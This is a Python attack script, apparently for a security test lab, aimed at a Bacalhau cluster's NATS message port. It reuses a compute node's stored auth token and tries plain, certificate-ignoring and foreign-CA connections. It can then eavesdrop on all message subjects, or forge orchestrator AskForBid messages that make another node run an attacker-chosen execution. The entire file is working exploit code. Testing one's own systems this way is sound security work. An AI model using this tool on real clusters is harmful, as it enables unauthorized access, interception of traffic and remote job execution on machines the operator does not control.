"""Runs on a node of a lab: a client of the engine's message port with what that node has, and nothing else.

    nats_attack.py listen SECONDS MODE          prints each message that comes to `SUB >`, its subject first
    nats_attack.py forge NODE MODE <EXECUTION   has NODE asked to run an execution, as the orchestrator asks, and prints
                                                what NODE answers within ANSWER_S

MODE is `plain` (no encryption), `trusting` (encrypted, takes any certificate) or `foreign` (encrypted, trusts the CA in
the file /tmp/foreign-ca.pem alone). Ends with 3 where the port refuses.
"""

from __future__ import annotations

import json
import socket
import ssl
import sys
import time
import zlib
from pathlib import Path
from typing import IO, Any
from urllib.parse import urlsplit

CONFIG = Path("/etc/bacalhau/compute.yaml")
ANSWER_S = 12.0
JSON_V1 = b"\x01"
"""The envelope: version, CRC-32 of what follows, JSON (pkg/lib/envelope/serializer.go at v1.9.3)."""


def settings() -> dict[str, Any]:
    lines = CONFIG.read_text().splitlines(keepends=True)
    found: dict[str, Any] = json.loads("".join(line for line in lines if not line.startswith("#")))
    return found


def connected(mode: str) -> tuple[socket.socket, IO[bytes]]:
    """The way, past CONNECT and PING. Raises OSError where the port refuses."""
    compute = settings()["Compute"]
    place = urlsplit(compute["Orchestrators"][0])
    way = socket.create_connection((place.hostname, place.port), timeout=5)
    line = b""
    while not line.endswith(b"\n"):
        line += way.recv(1)
    if mode != "plain":
        context = ssl.create_default_context(cafile="/tmp/foreign-ca.pem" if mode == "foreign" else None)
        if mode == "trusting":
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        way = context.wrap_socket(way, server_hostname=place.hostname)
    hello = {"auth_token": compute["Auth"]["Token"], "verbose": False, "pedantic": False, "headers": True,
             "no_responders": False, "name": "x", "lang": "python", "version": "1", "protocol": 1}  # fmt: skip
    way.sendall(b"CONNECT " + json.dumps(hello).encode() + b"\r\nPING\r\n")
    stream = way.makefile("rb")
    said = stream.readline()
    if not said.startswith(b"PONG"):
        raise OSError(f"refused: {said.decode(errors='replace').strip() or 'closed'}")
    return way, stream


def listen(way: socket.socket, stream: IO[bytes], seconds: float) -> None:
    way.sendall(b"SUB > 1\r\nPING\r\n")
    heard(way, stream, seconds)


def heard(way: socket.socket, stream: IO[bytes], seconds: float) -> None:
    way.settimeout(seconds)
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            line = stream.readline()
        except TimeoutError:
            return
        if line.startswith(b"PONG"):
            sys.stdout.write("taken\n")
        elif line.startswith(b"PING"):
            way.sendall(b"PONG\r\n")
        elif line.startswith((b"MSG ", b"HMSG ")):
            words = line.split()
            sys.stdout.write(f"{words[1].decode()} {stream.read(int(words[-1]) + 2)!r}\n")
        elif line.startswith(b"-ERR"):
            sys.stdout.write(line.decode())
        elif not line:
            return
        sys.stdout.flush()


def forge(way: socket.socket, stream: IO[bytes], node: str, execution: Any) -> None:
    subject = f"bacalhau.global.compute.{node}.in.msgs"
    metadata = {"Bacalhau-Type": "AskForBid", "Type": "AskForBid", "Bacalhau-PayloadEncoding": "json",
                "PayloadEncoding": "json", "Bacalhau-Source": f"orchestrator-{node}",
                "Bacalhau-Subject": subject, "Bacalhau-EventTime": str(time.time_ns()),
                "Bacalhau-MessageID": f"seq-{time.time_ns()}"}  # fmt: skip
    message = {"metadata": metadata, "payload": {"Events": None, "Execution": execution}}
    content = json.dumps(message, separators=(",", ":")).encode()
    framed = JSON_V1 + zlib.crc32(content).to_bytes(4, "big") + content
    lines = "".join(f"{key}: {value}\r\n" for key, value in metadata.items())
    head = f"NATS/1.0\r\n{lines}\r\n".encode()
    way.sendall(f"SUB bacalhau.global.compute.{node}.out.msgs 2\r\n".encode())
    way.sendall(f"HPUB {subject} {len(head)} {len(head) + len(framed)}\r\n".encode() + head + framed + b"\r\nPING\r\n")
    heard(way, stream, ANSWER_S)


def main(words: list[str]) -> int:
    try:
        way, stream = connected(words[2])
        if words[0] == "listen":
            listen(way, stream, float(words[1]))
        else:
            forge(way, stream, words[1], json.load(sys.stdin))
    except OSError as error:
        sys.stdout.write(f"{type(error).__name__}: {error}\n")
        return 3
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
